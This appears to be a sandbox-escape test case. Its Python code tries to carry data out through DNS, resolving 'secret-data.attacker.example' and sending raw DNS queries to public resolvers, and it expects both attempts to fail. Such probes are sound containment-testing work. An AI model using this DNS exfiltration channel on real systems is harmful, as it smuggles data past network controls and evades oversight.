"""Carries data out in the names it asks the domain name system for."""

CLASS = "resources and escape"
EXPECT = "no points"
SEEN = ["gethostbyname: gaierror", "udp: PermissionError"]
BASE = "release"

# %% [append]
import socket

try:
    print("gethostbyname:", socket.gethostbyname("secret-data.attacker.example"))
except OSError as problem:
    print("gethostbyname:", type(problem).__name__)
for host in ("1.1.1.1", "8.8.8.8", "127.0.0.53"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(b"\x00\x01\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x07example\x00\x00\x01\x00\x01", (host, 53))
            print("udp: sent")
    except OSError as problem:
        print("udp:", type(problem).__name__)
